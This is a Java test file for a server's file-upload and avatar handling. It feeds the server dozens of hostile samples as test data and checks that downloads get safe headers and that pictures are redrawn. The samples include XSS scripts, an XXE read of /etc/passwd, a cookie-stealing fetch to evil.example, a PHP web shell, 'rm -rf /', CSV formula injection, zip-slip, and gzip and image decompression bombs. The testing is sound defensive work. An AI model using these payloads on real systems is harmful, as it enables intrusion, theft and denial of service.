package io.agentim.file;

import static io.agentim.file.Pictures.body;
import static io.agentim.file.Pictures.chunk;
import static io.agentim.file.Pictures.deflated;
import static io.agentim.file.Pictures.head;
import static io.agentim.file.Pictures.joined;
import static io.agentim.file.Pictures.latin1;
import static io.agentim.file.Pictures.pngOf;

import static org.assertj.core.api.Assertions.assertThat;

import io.agentim.support.Answer;
import io.agentim.support.Form;
import io.agentim.support.Server;
import io.agentim.support.ServerTest;
import io.agentim.support.TestAccount;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.stream.MemoryCacheImageOutputStream;

/**
 * Sixty hostile files, uploaded, downloaded and taken for an avatar (hardening T14, T17): none is
 * shown as anything that a browser runs, none is decoded that could hurt.
 */
@ServerTest
class HostileFilesTest {
    private static final String TEXT = "text/plain; charset=utf-8";
    private static final String UNKNOWN = "application/octet-stream";
    private static final byte[] PNG = Pictures.png(20, 20);
    private static final byte[] JPEG = Pictures.jpeg(20, 20);

    @Autowired Server server;
    @Autowired StoredFiles files;

    /** Name, bytes, the type it is given, and what it is as an avatar. */
    static Stream<Arguments> files() throws Exception {
        return Stream.concat(documents(), pictures());
    }

    private static Stream<Arguments> documents() throws Exception {
        return Stream.of(
                text("page.html", "<!doctype html><script>alert(1)</script>"),
                text("page.htm", "<html><body onload=alert(1)>"),
                text(
                        "page.xhtml",
                        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>x()</script></html>"),
                text("a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
                text(
                        "a.xml",
                        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM"
                                + " \"file:///etc/passwd\">]><x>&e;</x>"),
                text(
                        "bomb.xml",
                        "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>"),
                text(
                        "a.xsl",
                        "<xsl:stylesheet version=\"1.0\""
                                + " xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>"),
                text("a.js", "fetch('//evil.example?'+document.cookie)"),
                text("a.mjs", "export default alert(1)"),
                text("a.css", "@import '//evil.example/x.css';"),
                text("a.json", "{\"__proto__\": {\"x\": 1}}"),
                text("a.php", "<?php system($_GET['c']);"),
                text("a.jsp", "<% Runtime.getRuntime().exec(\"id\"); %>"),
                text("a.sh", "#!/bin/sh\nrm -rf /"),
                text("a.bat", "@echo off\r\ndel *.*"),
                text("a.hta", "<hta:application/><script>x()</script>"),
                text("a.csv", "=cmd|' /C calc'!A0"),
                text("a.eml", "From: x\nContent-Type: text/html\n\n<script>alert(1)</script>"),
                text("a.mht", "MIME-Version: 1.0\nContent-Type: multipart/related\n\n"),
                text("a.url", "[InternetShortcut]\nURL=javascript:alert(1)"),
                text("a.desktop", "[Desktop Entry]\nExec=xterm"),
                text("a.pac", "function FindProxyForURL() { return 'PROXY evil:1' }"),
                text("a.appcache", "CACHE MANIFEST\n/"),
                text("sw.js", "self.addEventListener('fetch', e => 0)"),
                text("clickable.txt", "javascript:alert(1)"),
                text("bom.html", "\ufeff<script>alert(1)</script>"),
                text("rtl.txt", "\u202e<tpircs>"),
                text("ansi.txt", "\u001b]0;owned\u0007".replace("\u0007", "\u001b\\")),
                file(
                        "utf16.html",
                        "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_16),
                        UNKNOWN,
                        415),
                file("utf7.html", latin1("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), TEXT, 415),
                file("latin1.html", latin1("<script>alert('é')</script>"), UNKNOWN, 415),
                file("nul.html", latin1("<script>\0alert(1)</script>"), UNKNOWN, 415),
                file(
                        "pdf.pdf",
                        latin1("%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"),
                        "application/pdf",
                        415),
                file("zip.zip", zip("a.txt", "x"), "application/zip", 415),
                file("slip.zip", zip("../../../etc/cron.d/x", "x"), "application/zip", 415),
                file(
                        "app.jar",
                        zip("META-INF/MANIFEST.MF", "Main-Class: X\n"),
                        "application/zip",
                        415),
                file("page.docx", zip("[Content_Types].xml", "<x/>"), "application/zip", 415),
                file(
                        "empty.zip",
                        Arrays.copyOf(latin1("PK\u0005\u0006"), 22),
                        "application/zip",
                        415),
                file("bomb.gz", gzip(10_000_000), "application/gzip", 415),
                file("a.swf", latin1("CWS\u000b\u0000\u0000"), UNKNOWN, 415),
                file("a.exe", latin1("MZ\u0090\u0000\u0003\u0000"), UNKNOWN, 415),
                file("a.elf", latin1("\u007fELF\u0002\u0001\u0001\u0000"), UNKNOWN, 415),
                file("a.class", HexFormat.of().parseHex("cafebabe00000045"), UNKNOWN, 415),
                file("a.wasm", latin1("\0asm\u0001\0\0\0"), UNKNOWN, 415),
                file("a.doc", HexFormat.of().parseHex("d0cf11e0a1b11ae1"), UNKNOWN, 415),
                file("a.mp3", latin1("ID3\u0004\0\0\0\0\0\0"), "audio/mpeg", 415),
                file("a.mp4", latin1("\0\0\0\u0018ftypmp42\0\0\0\0"), "video/mp4", 415),
                file("a.ogg", latin1("OggS\0\u0002"), "audio/ogg", 415),
                file("a.wav", latin1("RIFF$\0\0\0WAVEfmt "), "audio/wav", 415),
                file("a.avi", latin1("RIFF$\0\0\0AVI LIST"), UNKNOWN, 415),
                file("a.webm", latin1("\u001aE\u00df\u00a3\u0001"), "video/webm", 415),
                file("a.ico", HexFormat.of().parseHex("00000100010010100000"), UNKNOWN, 415),
                file("a.bmp", latin1("BM6\0\0\0\0\0\0\0"), UNKNOWN, 415),
                file("a.tiff", latin1("II*\0\b\0\0\0"), UNKNOWN, 415),
                file("one-byte", new byte[] {0}, UNKNOWN, 415));
    }

    private static Stream<Arguments> pictures() {
        return Stream.of(
                file("a.webp", latin1("RIFF$\0\0\0WEBPVP8L"), "image/webp", 415),
                file(
                        "overflow.webp",
                        joined(latin1("RIFF\u00ff\u00ff\u00ff\u007fWEBPVP8L"), new byte[99]),
                        "image/webp",
                        415),
                file(
                        "polyglot.gif",
                        latin1("GIF89a/*<svg onload=alert(1)>*/=1;alert(1)"),
                        "image/gif",
                        415),
                file(
                        "animated.gif",
                        latin1("GIF89a\u0001\0\u0001\0\0\0\0!\u00ff\u000bNETSCAPE2.0"),
                        "image/gif",
                        415),
                file("heic.jpg", latin1("\0\0\0\u0018ftypheic"), "image/heic", 415),
                file("avif.png", latin1("\0\0\0\u0018ftypavif"), "image/avif", 415),
                file("svg-in.png", joined(PNG, latin1("<svg onload=alert(1)>")), "image/png", 200),
                file("php-in.jpg", joined(JPEG, latin1("<?php system('id');")), "image/jpeg", 200),
                file(
                        "html-in-comment.jpg",
                        commented("<script>alert(1)</script>"),
                        "image/jpeg",
                        200),
                file("zip-in.png", joined(PNG, latin1("PK\u0003\u0004")), "image/png", 200),
                file("only-magic.png", Arrays.copyOf(PNG, 8), "image/png", 400),
                file("only-magic.jpg", Arrays.copyOf(JPEG, 3), "image/jpeg", 400),
                file("cut-head.png", Arrays.copyOf(PNG, 20), "image/png", 400),
                file("cut-body.png", Arrays.copyOf(noise("png"), 3000), "image/png", 400),
                file("cut-body.jpg", Arrays.copyOf(noise("jpeg"), 3000), "image/jpeg", 200),
                file("garbage.png", joined(Arrays.copyOf(PNG, 8), random(5000)), "image/png", 400),
                file(
                        "garbage.jpg",
                        joined(Arrays.copyOf(JPEG, 3), random(5000)),
                        "image/jpeg",
                        400),
                file("no-chunks.png", pngOf(), "image/png", 400),
                file(
                        "no-body.png",
                        pngOf(head(10, 10, 2), chunk("IEND", new byte[0])),
                        "image/png",
                        400),
                file("no-palette.png", png(head(10, 10, 3), 10, 10, 1), "image/png", 400),
                file("zero.png", png(head(0, 0, 2), 1, 1, 3), "image/png", 400),
                file("negative.png", png(head(-1, -1, 2), 1, 1, 3), "image/png", 400),
                file("endless.png", png(head(Integer.MAX_VALUE, 1, 2), 1, 1, 3), "image/png", 400),
                file("pixel-bomb.png", png(head(20_000, 20_000, 2), 100, 100, 3), "image/png", 400),
                file("wide.png", png(head(4097, 1, 2), 4097, 1, 3), "image/png", 400),
                file(
                        "17-megapixels.png",
                        png(head(4096, 4096, 2), 4096, 4096, 3),
                        "image/png",
                        400),
                file("pixel-bomb.jpg", resized(JPEG, 65_500, 65_500), "image/jpeg", 400),
                file(
                        "long-chunk.png",
                        joined(
                                Arrays.copyOf(PNG, 33),
                                HexFormat.of().parseHex("7fffffff74455874"),
                                new byte[99]),
                        "image/png",
                        400),
                file(
                        "ztxt-bomb.png",
                        withChunk(
                                head(10, 10, 2),
                                "zTXt",
                                joined(latin1("x\0\0"), deflated(200_000_000))),
                        "image/png",
                        200),
                file(
                        "ztxt-bomb-palette.png",
                        withChunk(
                                head(10, 10, 3),
                                "zTXt",
                                joined(latin1("x\0\0"), deflated(200_000_000))),
                        "image/png",
                        200),
                file(
                        "itxt-bomb.png",
                        withChunk(
                                head(10, 10, 3),
                                "iTXt",
                                joined(latin1("x\0\u0001\0\0\0"), deflated(200_000_000))),
                        "image/png",
                        200),
                file(
                        "iccp-bomb.png",
                        withChunk(
                                head(10, 10, 2),
                                "iCCP",
                                joined(latin1("x\0\0"), deflated(200_000_000))),
                        "image/png",
                        200),
                file(
                        "more-than-the-picture.png",
                        pngOf(
                                head(10, 10, 2),
                                chunk("IDAT", deflated(200_000_000)),
                                chunk("IEND", new byte[0])),
                        "image/png",
                        200),
                file(
                        "animated.png",
                        withChunk(
                                head(10, 10, 2),
                                "acTL",
                                ByteBuffer.allocate(8).putInt(100_000).array()),
                        "image/png",
                        200),
                file("many-scans.jpg", scans(10_000), "image/jpeg", 400),
                file(
                        "marker-loop.jpg",
                        joined(
                                latin1("\u00ff\u00d8"),
                                latin1("\u00ff\u00fe\0\u0002".repeat(200_000))),
                        "image/jpeg",
                        400));
    }

    @ParameterizedTest
    @MethodSource("files")
    void isHarmless(String name, byte[] bytes, String type, int avatarStatus) {
        TestAccount owner = server.newAgent();
        Answer kept =
                owner.api().post("/v1/files/upload", Form.of("file", name, bytes)).hasStatus(201);
        assertThat(kept.text("content_type")).isEqualTo(type);

        var download = owner.api().download("/v1/files/" + kept.text("id"));
        assertThat(download.body()).isEqualTo(bytes);
        assertThat(header(download, "Content-Type").replace(" ", ""))
                .isEqualToIgnoringCase(type.replace(" ", ""));
        assertThat(header(download, "X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(header(download, "Content-Security-Policy"))
                .isEqualTo("sandbox; default-src 'none'");
        assertThat(header(download, "Content-Disposition"))
                .startsWith(type.matches("image/(png|jpeg|gif|webp)") ? "inline;" : "attachment;");

        long start = System.nanoTime();
        Answer avatar = owner.api().post("/v1/agents/avatar", Form.of("file", name, bytes));
        avatar.hasStatus(avatarStatus);
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(15));
        if (avatarStatus == 200) {
            assertDrawnAnew(owner, avatar.text("url"));
        } else {
            avatar.isProblem(
                    avatarStatus,
                    avatarStatus == 415 ? "unsupported_media_type" : "invalid_request");
        }
        assertThat(files.moving()).isEmpty();
    }

    /** Small, whole, and without what was hidden in it. */
    private void assertDrawnAnew(TestAccount owner, String url) {
        byte[] shown = owner.api().download(url.substring(server.url().length())).body();
        assertThat(Pictures.decoded(shown).getWidth()).isLessThanOrEqualTo(512);
        assertThat(shown.length).isLessThan(200_000);
        assertThat(new String(shown, StandardCharsets.ISO_8859_1))
                .doesNotContain("script", "svg", "php", "zTXt", "acTL", "PK\u0003\u0004");
    }

    private static Arguments file(String name, byte[] bytes, String type, int avatarStatus) {
        return Arguments.of(name, bytes, type, avatarStatus);
    }

    private static Arguments text(String name, String text) {
        return file(name, text.getBytes(StandardCharsets.UTF_8), TEXT, 415);
    }

    private static String header(HttpResponse<?> response, String name) {
        return response.headers().firstValue(name).orElse("");
    }

    private static byte[] png(byte[] header, int width, int height, int bytesPerPixel) {
        byte[][] body = body(width, height, bytesPerPixel);
        return pngOf(header, body[0], body[1]);
    }

    private static byte[] withChunk(byte[] header, String type, byte[] data) {
        boolean palette = header[17] == 3;
        byte[][] body = body(10, 10, palette ? 1 : 3);
        return pngOf(
                header,
                chunk(type, data),
                palette ? chunk("PLTE", new byte[3]) : new byte[0],
                body[0],
                body[1]);
    }

    private static byte[] commented(String comment) {
        return Pictures.withSegment(JPEG, 0xfe, latin1(comment));
    }

    private static byte[] noise(String format) {
        var image = new BufferedImage(100, 100, BufferedImage.TYPE_INT_RGB);
        var random = new Random(1);
        for (int i = 0; i < 10_000; i++) {
            image.setRGB(i % 100, i / 100, random.nextInt());
        }
        return Pictures.encoded(image, format);
    }

    private static byte[] random(int length) {
        byte[] bytes = new byte[length];
        new Random(2).nextBytes(bytes);
        return bytes;
    }

    /** With other numbers in the frame header. */
    private static byte[] resized(byte[] jpeg, int width, int height) {
        byte[] changed = jpeg.clone();
        for (int i = 0; i < changed.length - 9; i++) {
            if (changed[i] == (byte) 0xff && changed[i + 1] == (byte) 0xc0) {
                ByteBuffer.wrap(changed)
                        .putShort(i + 5, (short) height)
                        .putShort(i + 7, (short) width);
                return changed;
            }
        }
        throw new IllegalStateException("no frame header");
    }

    /** The last scan of a progressive picture again and again. */
    private static byte[] scans(int count) {
        byte[] progressive = progressive();
        int last = progressive.length;
        for (int i = progressive.length - 2; i >= 0; i--) {
            if (progressive[i] == (byte) 0xff && progressive[i + 1] == (byte) 0xda) {
                last = i;
                break;
            }
        }
        byte[] scan = Arrays.copyOfRange(progressive, last, progressive.length - 2);
        var out = new ByteArrayOutputStream();
        out.writeBytes(Arrays.copyOf(progressive, last));
        for (int i = 0; i < count; i++) {
            out.writeBytes(scan);
        }
        out.writeBytes(latin1("\u00ff\u00d9"));
        return out.toByteArray();
    }

    private static byte[] progressive() {
        var writer = ImageIO.getImageWritersByFormatName("jpeg").next();
        var how = writer.getDefaultWriteParam();
        how.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
        var out = new ByteArrayOutputStream();
        try (var stream = new MemoryCacheImageOutputStream(out)) {
            writer.setOutput(stream);
            var image = ImageIO.read(new ByteArrayInputStream(JPEG));
            writer.write(null, new IIOImage(image, null, null), how);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            writer.dispose();
        }
        return out.toByteArray();
    }

    private static byte[] zip(String name, String content) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(latin1(content));
        }
        return out.toByteArray();
    }

    private static byte[] gzip(int zeros) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(out)) {
            gzip.write(new byte[zeros]);
        }
        return out.toByteArray();
    }
}
